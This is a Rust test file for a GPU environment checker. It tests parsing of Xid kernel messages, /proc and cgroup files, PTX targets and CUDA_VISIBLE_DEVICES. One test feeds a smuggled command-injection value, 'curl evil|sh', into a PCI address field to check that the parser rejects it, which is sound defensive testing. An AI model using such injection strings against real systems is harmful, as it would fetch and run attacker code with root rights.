//! What the checker reads in kernel logs, in PTX, in CUDA_VISIBLE_DEVICES and in the files of control groups.

use candle_headroom::environment::Report;

use crate::machine::{Machine, codes};

/// The evidence of the findings about Xid messages.
fn messages(log: &str) -> Vec<(&'static str, String)> {
    let report = Machine::plain().file("/dev/kmsg", log).check();
    let findings = report.findings().iter();
    let is_xid = |id: &str| ["HR-110", "HR-111", "HR-112"].contains(&id);
    let xids = findings.filter(|finding| is_xid(finding.code.id));
    xids.map(|finding| (finding.code.id, finding.seen.clone()))
        .collect()
}

#[test]
fn messages_are_read_and_counted() {
    let found = messages(
        "6,12,99,-;NVRM: Xid (PCI:0000:3b:00): 31, pid=7, name=train, MMU Fault\n\
         [ 9.1] NVRM: Xid (PCI:0000:3b:00): 31, pid=8, name=train, MMU Fault again\n\
         [ 9.2] NVRM: Xid (0000:af:00): 79, GPU has fallen off the bus.\n\
         NVRM: Xid (PCI:0000:3b:00): many\nNVRM: Xid (\nsomething else",
    );
    let since = "since the last start (/dev/kmsg)";
    assert_eq!(
        found,
        [
            (
                "HR-110",
                format!("Xid 79 of 0000:af:00, {since}: GPU has fallen off the bus.")
            ),
            (
                "HR-111",
                format!(
                    "Xid 31 of 0000:3b:00, 2 times, {since}: pid=8, name=train, MMU Fault again"
                )
            ),
        ]
    );
}

#[test]
fn the_text_of_xid_154_names_the_action() {
    for (text, code, action) in [
        (
            "changed from 0x0 (None) to 0x1 (GPU Reset Required)",
            "HR-110",
            "reset it",
        ),
        (
            "… to 0x2 (Node Reboot Required)",
            "HR-110",
            "restart the machine",
        ),
        ("… to 0x4 (Drain and Reset)", "HR-110", "reset it"),
        ("… to 0x3 (Drain P2P)", "HR-110", "NVLink"),
        ("… to 0x0 (None)", "HR-112", ""),
        ("something new", "HR-112", ""),
    ] {
        let log = format!("NVRM: Xid (PCI:0000:3b:00): 154, {text}");
        let report = Machine::plain().file("/dev/kmsg", log).check();
        let mut findings = report.findings().iter();
        let finding = findings.find(|finding| finding.code.id == code);
        let is_named = finding.is_some_and(|finding| finding.next_step.contains(action));
        assert!(is_named, "{text}\n{report}");
    }
}

#[test]
fn every_xid_has_its_action() {
    let actions = [
        (
            &[8, 11, 13, 25, 31, 32, 39, 40, 41, 69, 94][..],
            "HR-111",
            "compute-sanitizer",
        ),
        (
            &[46, 48, 62, 64, 95, 109, 110, 119, 120, 140, 143, 158],
            "HR-110",
            "reset it",
        ),
        (&[54], "HR-110", "auxiliary power"),
        (&[74], "HR-110", "NVLink"),
        (&[78], "HR-110", "update the driver and the firmware"),
        (&[79], "HR-110", "restart the machine"),
        (&[0, 43, 45, 63, 92, 4242], "HR-112", "look the message up"),
    ];
    for (numbers, code, action) in actions {
        let lines = numbers.iter();
        let lines = lines.map(|number| format!("NVRM: Xid (PCI:0000:3b:00): {number}, x\n"));
        let log = lines.collect::<String>();
        let report = Machine::plain().file("/dev/kmsg", log).check();
        for number in numbers {
            let mut findings = report.findings().iter();
            let start = format!("Xid {number} of 0000:3b:00,");
            let finding = findings.find(|finding| finding.seen.starts_with(&start));
            let finding = finding.unwrap_or_else(|| panic!("{number}\n{report}"));
            assert_eq!(finding.code.id, code, "{number}\n{report}");
            assert!(finding.next_step.contains(action), "{number}\n{report}");
        }
    }
}

#[test]
fn malformed_lines_in_proc_are_passed_over() {
    let memory = "MemTotal: 16777216 kB\nMemAvailable: 8388608 kB\n";
    let swap = "SwapTotal: kB\nSwapFree: -1 kB\n";
    for (path, text, is_known) in [
        ("meminfo", format!("garbage\n: 1\n\n{swap}{memory}"), true),
        (
            "meminfo",
            "MemTotal: many kB\nMemAvailable: 1 kB\n".to_owned(),
            false,
        ),
        (
            "meminfo",
            "MemTotal: 16777216\nMemAvailable: 1 kB\n".to_owned(),
            false,
        ),
        (
            "meminfo",
            "MemTotal 16777216 kB\nMemAvailable: 1 kB\n".to_owned(),
            false,
        ),
        (
            "meminfo",
            "MemTotal: 99999999999999999999 kB\n".to_owned(),
            false,
        ),
        ("cpuinfo", "processor\nmodel name\n:\n\n".to_owned(), true),
        ("self/cgroup", "\n0\n4:memory\n:::\n".to_owned(), true),
    ] {
        let report = Machine::plain()
            .file(&format!("/proc/{path}"), &text)
            .check();
        let code = if is_known { "HR-700" } else { "HR-705" };
        assert!(codes(&report).contains(&code), "{path}: {text}\n{report}");
        assert!(
            !codes(&report).contains(&"HR-002"),
            "{path}: {text}\n{report}"
        );
    }
    for (mounts, is_small) in [
        (
            "tmpfs\n\nshm /dev/shm\nshm /dev/shm tmpfs\nshm /dev/shm tmpfs rw 0 0\n",
            false,
        ),
        (
            "shm /dev/shm tmpfs rw,size= 0 0\nshm /dev/shm tmpfs rw,size=manyk 0 0\n",
            false,
        ),
        (
            "shm /dev/shm tmpfs rw,size=99999999999999999999k 0 0\n",
            false,
        ),
        (
            "shm /dev/shm2 tmpfs rw,size=1k 0 0\nshm /dev/shm tmpfs rw,isize=1k 0 0\n",
            false,
        ),
        ("shm /dev/shm tmpfs size=67108864 0 0\n", true),
        (
            "\ntmpfs\n/dev/shm\nshm /dev/shm tmpfs rw,size=65536k 0 0\n",
            true,
        ),
    ] {
        let report = Machine::healthy().file("/proc/mounts", mounts).check();
        assert_eq!(
            codes(&report).contains(&"HR-704"),
            is_small,
            "{mounts}\n{report}"
        );
    }
}

#[test]
fn every_clock_bit_is_known_and_others_are_kept() {
    let codes_of = |bits: u64| {
        let report = Machine::healthy()
            .answers(&format!("clocks={bits}"))
            .check();
        let mut found = codes(&report);
        found.retain(|code| ["HR-214", "HR-215", "HR-216"].contains(code));
        (found, report.to_string())
    };
    for (bit, code) in [
        (0x1, None),
        (0x2, None),
        (0x4, Some("HR-216")),
        (0x8, Some("HR-214")),
        (0x10, None),
        (0x20, Some("HR-215")),
        (0x40, Some("HR-214")),
        (0x80, Some("HR-214")),
        (0x100, None),
    ] {
        let (found, report) = codes_of(bit);
        assert_eq!(found, Vec::from_iter(code), "{bit:#x}\n{report}");
    }
    let (found, report) = codes_of(0x7fff_ffff);
    assert_eq!(found, ["HR-214", "HR-215", "HR-216"]);
    assert!(report.contains("unknown reasons (0x7ffffe00)"), "{report}");
    assert_eq!(codes_of(0).0, [""; 0]);
}

/// An address goes into a command that a user may run as root.
#[test]
fn a_message_without_an_address_is_ignored() {
    for address in [
        "PCI:0; curl evil|sh #",
        "",
        "PCI:",
        "0000:3b:00 -i 1",
        "PCI:00000000000000000",
    ] {
        let log = format!("NVRM: Xid ({address}): 79, GPU has fallen off the bus.");
        assert_eq!(messages(&log), [], "{address}");
    }
    let found = messages("NVRM: Xid (PCI:00000000:3b:00.0): 79, off the bus");
    assert!(found[0].1.contains("00000000:3b:00.0"), "{found:?}");
}

#[test]
fn the_newest_of_many_kinds_of_messages_are_reported() {
    let lines = (200..300).map(|number| format!("NVRM: Xid (PCI:0000:3b:00): {number}, x\n"));
    let found = messages(&lines.collect::<String>());
    assert_eq!(found.len(), 65);
    assert!(found[0].1.contains("Xid 236 ") && found[63].1.contains("Xid 299 "));
    assert!(
        found[64].1.starts_with("36 further kinds"),
        "{}",
        found[64].1
    );
}

/// Whether kernels for this target run on a GPU of this compute capability.
fn runs(target: &str, (major, minor): (u32, u32)) -> bool {
    let report = Machine::healthy()
        .answers(&format!("major={major}\nminor={minor}"))
        .kernels("mine", &format!(".version 8.0\n.target {target}, debug\n"))
        .check();
    let mut findings = report.findings().iter();
    !findings.any(|finding| finding.code.id == "HR-309" && finding.seen.starts_with("mine"))
}

#[test]
fn kernels_run_where_nvidia_says() {
    assert!(runs("sm_80", (8, 0)) && runs("sm_80", (9, 0)) && runs("compute_80", (12, 0)));
    assert!(!runs("sm_90", (8, 9)) && !runs("sm_86", (8, 0)));
    assert!(runs("sm_90a", (9, 0)) && !runs("sm_90a", (10, 0)));
    assert!(runs("sm_100f", (10, 3)) && !runs("sm_100f", (12, 0)));
    for unreadable in ["sm_", "sm_x", "a", "5", "99999"] {
        assert!(runs(unreadable, (3, 0)), "{unreadable}: nothing is known");
    }
}

#[test]
fn headers_of_kernels_are_read() {
    let ptx =
        "//\n// Compiler Build\n//\n\n.version 9.0\n.target sm_90a, debug\n.address_size 64\n";
    let seen = |report: &Report, id: &str| {
        let mut findings = report.findings().iter();
        let finding =
            findings.find(|finding| finding.code.id == id && finding.seen.starts_with("mine"));
        finding.map(|finding| finding.seen.clone())
    };
    let report = Machine::healthy().kernels("mine", ptx).check();
    let expected = Some("mine: PTX 9.0 for sm_90a".to_owned());
    assert_eq!(seen(&report, "HR-312"), expected, "{report}");
    let report = Machine::healthy().kernels("mine", "garbage").check();
    assert!(seen(&report, "HR-310").is_some(), "{report}");
}

/// The places of the GPUs that the variable leaves visible. CUDA does not start, so that the variable alone decides.
fn visible(value: &str) -> (Vec<u32>, Report) {
    let uuids = "gpus=3\n0.uuid=GPU-11-a\n1.uuid=GPU-12-b\n2.uuid=GPU-2-c\nstatus.cuInit=100";
    let report = Machine::healthy()
        .answers(uuids)
        .variable("CUDA_VISIBLE_DEVICES", value)
        .check();
    let gpus = report.gpus().iter().filter(|gpu| gpu.visible);
    (gpus.map(|gpu| gpu.index).collect(), report)
}

/// The driver's rules for CUDA_VISIBLE_DEVICES.
#[test]
fn visible_devices() {
    for (value, gpus, what) in [
        ("2,0", &[0, 2][..], "numbers"),
        ("0,2,-1,1", &[0, 2], "the guide's own example"),
        ("1, 7 ,0", &[1], "7 ends the list"),
        ("GPU-12,GPU-2", &[1, 2], "prefixes of UUIDs"),
        ("GPU-1", &[], "two UUIDs begin with it"),
        ("", &[], "nothing"),
        ("-1", &[], "no GPU"),
        ("NoDevFiles", &[], "no GPU"),
        ("0,1,0", &[], "twice"),
        ("GPU-12,GPU-12-b", &[], "twice"),
        ("1,GPU-11,0", &[1], "numbers, and then a UUID"),
        ("GPU-12,0", &[1], "UUIDs, and then a number"),
        ("1x, 2 of them", &[1, 2], "only leading digits count"),
        ("MIG-5f9c", &[0, 1, 2], "an instance of any GPU"),
    ] {
        let (found, report) = visible(value);
        assert_eq!(found, gpus, "`{value}`: {what}\n{report}");
        let hides_all = gpus.is_empty();
        let tells = ["HR-601", "HR-603"]
            .iter()
            .any(|code| codes(&report).contains(code));
        assert_eq!(tells, hides_all, "`{value}`: {what}\n{report}");
    }
}

/// A control group's limit and use, and those of its parents. Each line is a path, a space and the content, with `|` for its line ends.
#[test]
fn control_groups() {
    for (files, memory, limit, what) in [
        ("", "4.0 GiB free of 8.0 GiB", None, "no groups"),
        (
            "/proc/self/cgroup 0::/job/step|\n\
             /sys/fs/cgroup/job/memory.max 2147483648|\n\
             /sys/fs/cgroup/job/memory.current 1610612736|\n\
             /sys/fs/cgroup/job/step/memory.max max|",
            "512.0 MiB free of 2.0 GiB",
            Some("2.0 GiB"),
            "version 2: the smallest limit up to the mount",
        ),
        (
            "/proc/self/cgroup 0::/job|\n\
             /sys/fs/cgroup/job/memory.max 2147483648|\n\
             /sys/fs/cgroup/job/memory.current 2147483648|\n\
             /sys/fs/cgroup/job/memory.stat anon 1|file 9|inactive_file 1073741824|",
            "1.0 GiB free of 2.0 GiB",
            Some("2.0 GiB"),
            "version 2: page cache that is dropped first is free",
        ),
        (
            "/proc/self/cgroup 4:memory:/job|\n\
             /sys/fs/cgroup/memory/job/memory.limit_in_bytes 2147483648|\n\
             /sys/fs/cgroup/memory/job/memory.usage_in_bytes 2147483648|\n\
             /sys/fs/cgroup/memory/job/memory.stat inactive_file 1|total_inactive_file 1073741824|",
            "1.0 GiB free of 2.0 GiB",
            Some("2.0 GiB"),
            "version 1: page cache that is dropped first is free",
        ),
        (
            "/proc/self/cgroup 0::/../../docker/abc|\n\
             /sys/fs/cgroup/memory.max 1073741824|",
            "4.0 GiB free of 1.0 GiB",
            Some("1.0 GiB"),
            "a container sees only its mount, and here not its use",
        ),
        (
            "/proc/self/cgroup 5:cpu,cpuacct:/job|4:memory:/job|\n\
             /sys/fs/cgroup/memory/job/memory.limit_in_bytes 1073741824|\n\
             /sys/fs/cgroup/memory/memory.limit_in_bytes 9223372036854771712|",
            "4.0 GiB free of 1.0 GiB",
            Some("1.0 GiB"),
            "version 1 and its number for unlimited",
        ),
        (
            "/proc/self/cgroup 4:memory:/|\n\
             /sys/fs/cgroup/memory/memory.limit_in_bytes 9223372036854771712|",
            "4.0 GiB free of 8.0 GiB",
            None,
            "version 1 without a limit",
        ),
    ] {
        let meminfo = "MemTotal:   8388608 kB\nMemFree: 1 kB\nMemAvailable:   4194304 kB\n";
        let mut machine = Machine::plain().file("/proc/meminfo", meminfo);
        for (path, text) in files.lines().filter_map(|line| line.split_once(' ')) {
            machine = machine.file(path, text.replace('|', "\n"));
        }
        let report = machine.check();
        let seen = |id: &str| {
            let mut findings = report.findings().iter();
            findings
                .find(|finding| finding.code.id == id)
                .map(|finding| finding.seen.clone())
        };
        assert!(
            seen("HR-700").unwrap().ends_with(memory),
            "{what}: {report}"
        );
        let expected = limit.map(|limit| format!("{limit} of the machine's 8.0 GiB"));
        assert_eq!(seen("HR-701"), expected, "{what}: {report}");
    }
}
